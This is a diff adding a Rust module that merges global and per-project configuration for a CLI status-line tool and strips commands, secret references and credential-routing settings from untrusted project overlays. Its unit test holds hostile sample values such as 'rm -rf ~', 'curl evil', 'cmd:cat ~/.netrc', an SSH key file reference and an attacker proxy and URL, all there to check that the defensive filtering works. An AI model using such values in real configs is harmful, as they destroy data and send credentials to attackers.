@@ -0,0 +1,615 @@
+use super::{migrations, Config};
+use crate::ui::themes::ThemePresets;
+use std::collections::BTreeMap;
+use std::fmt;
+use std::fs;
+use std::path::{Path, PathBuf};
+
+/// File name of the per-project overlay, searched from the workspace directory upwards
+pub const PROJECT_CONFIG_FILE: &str = ".byebyecode.toml";
+
+/// Segment options only a trusted project overlay may set: they run commands or
+/// decide where credentials are sent
+const TRUSTED_SEGMENT_OPTIONS: &[&str] = &[
+    "command",
+    "cwd",
+    "provider",
+    "usage_url",
+    "subscription_url",
+    "relay_schema",
+];
+
+/// One source of configuration values, lowest priority first
+#[derive(Debug, Clone, PartialEq)]
+pub enum ConfigLayer {
+    /// Built-in defaults (no global config file, or segments the global config lacks)
+    Default,
+    /// ~/.claude/byebyecode/config.toml
+    Global(PathBuf),
+    /// Theme selected by the project overlay's `theme` key
+    Theme(String),
+    /// .byebyecode.toml in the workspace or one of its parents
+    Project(PathBuf),
+}
+
+impl ConfigLayer {
+    pub fn label(&self) -> String {
+        match self {
+            ConfigLayer::Default => "default".to_string(),
+            ConfigLayer::Global(_) => "global".to_string(),
+            ConfigLayer::Theme(name) => format!("theme:{}", name),
+            ConfigLayer::Project(_) => "project".to_string(),
+        }
+    }
+}
+
+impl fmt::Display for ConfigLayer {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            ConfigLayer::Global(path) | ConfigLayer::Project(path) => {
+                write!(f, "{} ({})", self.label(), path.display())
+            }
+            _ => write!(f, "{}", self.label()),
+        }
+    }
+}
+
+/// Merged configuration together with the layer each value came from
+#[derive(Debug, Clone)]
+pub struct LayeredConfig {
+    pub config: Config,
+    pub layers: Vec<ConfigLayer>,
+    /// Layer index per value path (`style.mode`, `segments.git.options.show_sha`, ...)
+    sources: BTreeMap<String, usize>,
+    /// Values of the project overlay that were ignored: restricted ones when it is not
+    /// trusted, and a `theme` that names no known theme
+    pub ignored: Vec<String>,
+}
+
+/// Find the nearest project overlay at or above `start`
+pub fn find_project_overlay(start: &Path) -> Option<PathBuf> {
+    start
+        .ancestors()
+        .map(|dir| dir.join(PROJECT_CONFIG_FILE))
+        .find(|path| path.is_file())
+}
+
+impl Config {
+    /// Whether the project overlay in `dir` may set restricted values: `dir` is one of
+    /// `trusted_projects` or below one
+    pub fn trusts_project(&self, dir: &Path) -> bool {
+        let dir = dir.canonicalize().unwrap_or_else(|_| dir.to_path_buf());
+        self.trusted_projects.iter().any(|trusted| {
+            let trusted = super::secrets::expand_home(trusted.trim());
+            let trusted = trusted.canonicalize().unwrap_or(trusted);
+            dir.starts_with(trusted)
+        })
+    }
+}
+
+/// `cmd:`, `file:` and `env:` references run commands, read arbitrary files or read
+/// any environment variable, and would send the result to the configured endpoint
+fn is_local_secret(value: Option<&toml::Value>) -> bool {
+    let value = value.and_then(|v| v.as_str()).unwrap_or_default();
+    !super::secrets::SecretRef::parse(value).is_literal()
+}
+
+/// Remove `keys` from the table at `path` in `overlay`, recording the removed paths
+fn remove_keys(table: &mut toml::Table, path: &str, keys: &[&str], ignored: &mut Vec<String>) {
+    for key in keys {
+        if table.remove(*key).is_some() {
+            ignored.push(join(path, key));
+        }
+    }
+}
+
+/// Strip what an untrusted project overlay may not set: new custom segments, commands,
+/// secret references, and the providers, URLs, schema, proxy and certificates that decide
+/// where credentials go. Returns the paths of the removed values.
+fn restrict_overlay(overlay: &mut toml::Table, base_segments: &[toml::Value]) -> Vec<String> {
+    let mut ignored = Vec::new();
+
+    for (table, keys) in [
+        ("relay", &["provider"][..]),
+        ("translation", &["provider", "model", "base_url"][..]),
+        ("http", &["proxy", "ca_certs"][..]),
+    ] {
+        let Some(toml::Value::Table(values)) = overlay.get_mut(table) else {
+            continue;
+        };
+        if is_local_secret(values.get("api_key")) {
+            remove_keys(values, table, &["api_key"], &mut ignored);
+        }
+        remove_keys(values, table, keys, &mut ignored);
+    }
+
+    if let Some(toml::Value::Array(segments)) = overlay.get_mut("segments") {
+        segments.retain_mut(|segment| {
+            let Some(key) = toml_segment_key(segment) else {
+                return true;
+            };
+            let path = join("segments", &key);
+            let known = base_segments
+                .iter()
+                .any(|s| toml_segment_key(s).as_deref() == Some(key.as_str()));
+            if key.starts_with("custom:") && !known {
+                ignored.push(path);
+                return false;
+            }
+            if let Some(toml::Value::Table(options)) = segment.get_mut("options") {
+                let path = join(&path, "options");
+                if is_local_secret(options.get("api_key")) {
+                    remove_keys(options, &path, &["api_key"], &mut ignored);
+                }
+                remove_keys(options, &path, TRUSTED_SEGMENT_OPTIONS, &mut ignored);
+            }
+            true
+        });
+    }
+
+    ignored
+}
+
+fn join(path: &str, key: &str) -> String {
+    if path.is_empty() {
+        key.to_string()
+    } else {
+        format!("{}.{}", path, key)
+    }
+}
+
+/// Colors are untagged enums (`{ c16 }`, `{ c256 }`, `{ r, g, b }`) and must be
+/// replaced as a whole rather than merged key by key
+fn is_atomic(path: &str) -> bool {
+    path.rsplit('.').nth(1) == Some("colors")
+}
+
+/// Key that identifies a segment across layers: its `id`, or `custom:<name>` for
+/// custom segments, which may appear several times
+fn segment_key(id: &str, name: Option<&str>) -> String {
+    match name {
+        Some(name) if id == "custom" => format!("custom:{}", name),
+        _ => id.to_string(),
+    }
+}
+
+fn toml_segment_key(segment: &toml::Value) -> Option<String> {
+    let id = segment.get("id")?.as_str()?;
+    let name = segment
+        .get("options")
+        .and_then(|o| o.get("name"))
+        .and_then(|v| v.as_str());
+    Some(segment_key(id, name))
+}
+
+fn mark_leaves(
+    value: &toml::Value,
+    path: &str,
+    layer: usize,
+    sources: &mut BTreeMap<String, usize>,
+) {
+    match value {
+        toml::Value::Table(table) if !is_atomic(path) => {
+            for (key, child) in table {
+                mark_leaves(child, &join(path, key), layer, sources);
+            }
+        }
+        toml::Value::Array(items) if path == "segments" => {
+            for item in items {
+                if let Some(key) = toml_segment_key(item) {
+                    mark_leaves(item, &join(path, &key), layer, sources);
+                }
+            }
+        }
+        _ => {
+            sources.insert(path.to_string(), layer);
+        }
+    }
+}
+
+struct Merger {
+    layers: Vec<ConfigLayer>,
+    sources: BTreeMap<String, usize>,
+    /// Built-in segments used to complete segments the base config does not have
+    default_segments: Vec<toml::Value>,
+}
+
+impl Merger {
+    fn layer_index(&mut self, layer: ConfigLayer) -> usize {
+        match self.layers.iter().position(|l| *l == layer) {
+            Some(index) => index,
+            None => {
+                self.layers.push(layer);
+                self.layers.len() - 1
+            }
+        }
+    }
+
+    fn merge_value(
+        &mut self,
+        base: &mut toml::Value,
+        overlay: toml::Value,
+        path: &str,
+        layer: usize,
+    ) {
+        match (base, overlay) {
+            (toml::Value::Table(base), toml::Value::Table(overlay)) if !is_atomic(path) => {
+                for (key, value) in overlay {
+                    let child = join(path, &key);
+                    match base.get_mut(&key) {
+                        Some(toml::Value::Array(segments)) if child == "segments" => {
+                            let toml::Value::Array(overlay_segments) = value else {
+                                continue;
+                            };
+                            self.merge_segments(segments, overlay_segments, layer);
+                        }
+                        Some(existing) => self.merge_value(existing, value, &child, layer),
+                        None => {
+                            mark_leaves(&value, &child, layer, &mut self.sources);
+                            base.insert(key, value);
+                        }
+                    }
+                }
+            }
+            (base, overlay) => {
+                mark_leaves(&overlay, path, layer, &mut self.sources);
+                *base = overlay;
+            }
+        }
+    }
+
+    /// Segments are matched by `id` (and `name` for custom segments); unknown ones are
+    /// appended, completed from the built-in defaults
+    fn merge_segments(
+        &mut self,
+        base: &mut Vec<toml::Value>,
+        overlay: Vec<toml::Value>,
+        layer: usize,
+    ) {
+        for segment in overlay {
+            let Some(key) = toml_segment_key(&segment) else {
+                continue;
+            };
+            let path = join("segments", &key);
+
+            let existing = base
+                .iter()
+                .position(|s| toml_segment_key(s).as_deref() == Some(key.as_str()));
+            let index = match existing {
+                Some(index) => index,
+                None => {
+                    let seed = self
+                        .default_segments
+                        .iter()
+                        .find(|s| toml_segment_key(s).as_deref() == Some(key.as_str()))
+                        .cloned();
+                    let Some(seed) = seed else {
+                        // Unknown segment ID; deserialization reports it
+                        mark_leaves(&segment, &path, layer, &mut self.sources);
+                        base.push(segment);
+                        continue;
+                    };
+                    let default_layer = self.layer_index(ConfigLayer::Default);
+                    mark_leaves(&seed, &path, default_layer, &mut self.sources);
+                    base.push(seed);
+                    base.len() - 1
+                }
+            };
+
+            // The ID only selects the segment; it is not an overridden value
+            let mut segment = segment;
+            if let toml::Value::Table(table) = &mut segment {
+                table.remove("id");
+            }
+            self.merge_value(&mut base[index], segment, &path, layer);
+        }
+    }
+}
+
+impl LayeredConfig {
+    /// Load the global config and merge the nearest project overlay above `dir`
+    pub fn load(dir: &Path) -> Result<Self, Box<dyn std::error::Error>> {
+        Self::load_with(dir, true)
+    }
+
+    /// Same as `load`, but never rewrites config.toml with pending migrations
+    pub fn preview(dir: &Path) -> Result<Self, Box<dyn std::error::Error>> {
+        Self::load_with(dir, false)
+    }
+
+    fn load_with(dir: &Path, write_back: bool) -> Result<Self, Box<dyn std::error::Error>> {
+        let global_path = Config::get_config_path();
+        let (base_config, base_layer) = if global_path.exists() {
+            (
+                Config::load_migrated(write_back)?,
+                ConfigLayer::Global(global_path),
+            )
+        } else {
+            (Config::default(), ConfigLayer::Default)
+        };
+
+        let default_segments = match toml::Value::try_from(Config::default())? {
+            toml::Value::Table(mut table) => match table.remove("segments") {
+                Some(toml::Value::Array(segments)) => segments,
+                _ => Vec::new(),
+            },
+            _ => Vec::new(),
+        };
+
+        let mut merger = Merger {
+            layers: vec![base_layer],
+            sources: BTreeMap::new(),
+            default_segments,
+        };
+        let mut merged = toml::Value::try_from(&base_config)?;
+        mark_leaves(&merged, "", 0, &mut merger.sources);
+
+        if let Some(overlay_path) = find_project_overlay(dir) {
+            let content = fs::read_to_string(&overlay_path)?;
+            let mut overlay: toml::Table = toml::from_str(&content)
+                .map_err(|e| format!("{}: {}", overlay_path.display(), e))?;
+
+            // Overlays may use older names too; upgrade them in memory
+            migrations::migrate(&mut overlay)?;
+            overlay.remove("version");
+            // Only the global config decides which projects are trusted
+            overlay.remove("trusted_projects");
+
+            // The theme name becomes a file name under themes/; only known themes are used
+            let mut ignored = Vec::new();
+            let unknown_theme =
+                overlay
+                    .get("theme")
+                    .and_then(|v| v.as_str())
+                    .is_some_and(|theme| {
+                        !ThemePresets::list_available_themes()
+                            .iter()
+                            .any(|t| t == theme)
+                    });
+            if unknown_theme {
+                overlay.remove("theme");
+                ignored.push("theme".to_string());
+            }
+
+            // A different theme replaces the global look; settings outside a theme are kept
+            if let Some(theme) = overlay.get("theme").and_then(|v| v.as_str()) {
+                if theme != base_config.theme {
+                    let mut themed = ThemePresets::apply_theme(&base_config, theme);
+                    themed.theme = theme.to_string();
+                    merged = toml::Value::try_from(&themed)?;
+
+                    let theme_layer = merger.layer_index(ConfigLayer::Theme(theme.to_string()));
+                    merger.sources.clear();
+                    mark_leaves(&merged, "", theme_layer, &mut merger.sources);
+                    for key in ["translation", "relay", "http", "layout", "trusted_projects"] {
+                        if let Some(value) = merged.get(key) {
+                            mark_leaves(value, key, 0, &mut merger.sources);
+                        }
+                    }
+                }
+            }
+
+            // A cloned repository must not run commands or redirect credentials unless trusted
+            let overlay_dir = overlay_path.parent().unwrap_or(dir);
+            if !base_config.trusts_project(overlay_dir) {
+                let base_segments = match merged.get("segments") {
+                    Some(toml::Value::Array(segments)) => segments.as_slice(),
+                    _ => &[],
+                };
+                ignored.extend(restrict_overlay(&mut overlay, base_segments));
+            }
+            let overlay = toml::Value::Table(overlay);
+
+            let project_layer = merger.layer_index(ConfigLayer::Project(overlay_path.clone()));
+            merger.merge_value(&mut merged, overlay, "", project_layer);
+
+            let config: Config = merged
+                .try_into()
+                .map_err(|e| format!("{}: {}", overlay_path.display(), e))?;
+            return Ok(Self {
+                config,
+                layers: merger.layers,
+                sources: merger.sources,
+                ignored,
+            });
+        }
+
+        Ok(Self {
+            config: base_config,
+            layers: merger.layers,
+            sources: merger.sources,
+            ignored: Vec::new(),
+        })
+    }
+
+    /// Path of the project overlay that was applied, if any
+    pub fn project_overlay(&self) -> Option<&Path> {
+        self.layers.iter().find_map(|layer| match layer {
+            ConfigLayer::Project(path) => Some(path.as_path()),
+            _ => None,
+        })
+    }
+
+    /// Layer a value came from; for tables, the highest-priority layer of any value inside,
+    /// and for values inside a color, the layer that set the whole color
+    pub fn source_of(&self, path: &str) -> &ConfigLayer {
+        let prefix = format!("{}.", path);
+        let index = self
+            .sources
+            .get(path)
+            .copied()
+            .or_else(|| {
+                self.sources
+                    .range(prefix.clone()..)
+                    .take_while(|(key, _)| key.starts_with(&prefix))
+                    .map(|(_, layer)| *layer)
+                    .max()
+            })
+            .or_else(|| {
+                std::iter::successors(path.rsplit_once('.'), |(parent, _)| parent.rsplit_once('.'))
+                    .find_map(|(parent, _)| self.sources.get(parent).copied())
+            });
+        &self.layers[index.unwrap_or(0)]
+    }
+
+    fn annotate_table(&self, table: &mut toml_edit::Table, path: &str) {
+        for (key, item) in table.iter_mut() {
+            let child = join(path, key.get());
+            match item {
+                toml_edit::Item::Value(value) => {
+                    let label = self.source_of(&child).label();
+                    value.decor_mut().set_suffix(format!("  # {}", label));
+                }
+                toml_edit::Item::Table(table) => self.annotate_table(table, &child),
+                toml_edit::Item::ArrayOfTables(tables) => {
+                    for table in tables.iter_mut() {
+                        let id = table.get("id").and_then(|v| v.as_str()).unwrap_or_default();
+                        let name = table
+                            .get("options")
+                            .and_then(|o| o.get("name"))
+                            .and_then(|v| v.as_str());
+                        let key = segment_key(id, name);
+                        self.annotate_table(table, &join(&child, &key));
+                    }
+                }
+                toml_edit::Item::None => {}
+            }
+        }
+    }
+
+    /// Print the merged configuration as TOML, annotating each value with its layer;
+    /// literal API keys are masked
+    pub fn print(&self) -> Result<(), Box<dyn std::error::Error>> {
+        let content = toml::to_string_pretty(&super::secrets::redact_config(&self.config))?;
+        let mut document: toml_edit::DocumentMut = content.parse()?;
+        self.annotate_table(document.as_table_mut(), "");
+
+        println!("# Configuration layers (later layers override earlier ones):");
+        for layer in &self.layers {
+            println!("#   {}", layer);
+        }
+        if !self.ignored.is_empty() {
+            println!("# Ignored from the project overlay (not in trusted_projects, or an unknown theme):");
+            for path in &self.ignored {
+                println!("#   {}", path);
+            }
+        }
+        println!();
+        println!("{}", document);
+        Ok(())
+    }
+}
+
+impl Config {
+    /// Load the global config merged with the project overlay for a workspace directory
+    pub fn load_for_workspace(dir: &Path) -> Result<Config, Box<dyn std::error::Error>> {
+        Ok(LayeredConfig::load(dir)?.config)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn table(content: &str) -> toml::Table {
+        toml::from_str(content).unwrap()
+    }
+
+    #[test]
+    fn untrusted_overlay_cannot_run_commands_or_redirect_credentials() {
+        let base = table(
+            r#"
+            [[segments]]
+            id = "custom"
+            options = { name = "todo", command = "todo count" }
+            "#,
+        );
+        let base_segments = base["segments"].as_array().unwrap().clone();
+        let mut overlay = table(
+            r#"
+            [relay]
+            api_key = "file:~/.ssh/id_ed25519"
+            provider = "packy"
+
+            [translation]
+            api_key = "env:AWS_SECRET_ACCESS_KEY"
+            provider = "openai"
+            model = "gpt-4o"
+            target_lang = "zh"
+
+            [http]
+            proxy = "http://attacker:8080"
+            timeout_secs = 2
+
+            [[segments]]
+            id = "custom"
+            options = { name = "todo", command = "curl evil", format = "{text}" }
+
+            [[segments]]
+            id = "custom"
+            options = { name = "new", command = "rm -rf ~" }
+
+            [[segments]]
+            id = "byebyecode_usage"
+            options = { usage_url = "https://attacker/usage", api_key = "cmd:cat ~/.netrc", warn = 5 }
+
+            [[segments]]
+            id = "byebyecode_subscription"
+            options = { provider = "packy" }
+            "#,
+        );
+
+        let ignored = restrict_overlay(&mut overlay, &base_segments);
+        assert_eq!(
+            ignored,
+            vec![
+                "relay.api_key",
+                "relay.provider",
+                "translation.api_key",
+                "translation.provider",
+                "translation.model",
+                "http.proxy",
+                "segments.custom:todo.options.command",
+                "segments.custom:new",
+                "segments.byebyecode_usage.options.api_key",
+                "segments.byebyecode_usage.options.usage_url",
+                "segments.byebyecode_subscription.options.provider",
+            ]
+        );
+
+        // Harmless overrides are kept
+        assert_eq!(overlay["http"]["timeout_secs"].as_integer(), Some(2));
+        assert_eq!(overlay["translation"]["target_lang"].as_str(), Some("zh"));
+        let segments = overlay["segments"].as_array().unwrap();
+        assert_eq!(segments.len(), 3);
+        assert_eq!(segments[0]["options"]["format"].as_str(), Some("{text}"));
+        assert_eq!(segments[1]["options"]["warn"].as_integer(), Some(5));
+    }
+
+    #[test]
+    fn literal_keys_are_allowed() {
+        let mut overlay = table(
+            r#"
+            [relay]
+            api_key = "sk-relay"
+
+            [translation]
+            api_key = "sk-literal"
+            "#,
+        );
+        assert!(restrict_overlay(&mut overlay, &[]).is_empty());
+    }
+
+    #[test]
+    fn trusts_listed_directories_and_their_children() {
+        let root = std::env::temp_dir();
+        let config = Config {
+            trusted_projects: vec![root.join("work").to_string_lossy().to_string()],
+            ..Config::default()
+        };
+        assert!(config.trusts_project(&root.join("work")));
+        assert!(config.trusts_project(&root.join("work").join("repo")));
+        assert!(!config.trusts_project(&root.join("workshop")));
+        assert!(!Config::default().trusts_project(&root.join("work")));
+    }
+}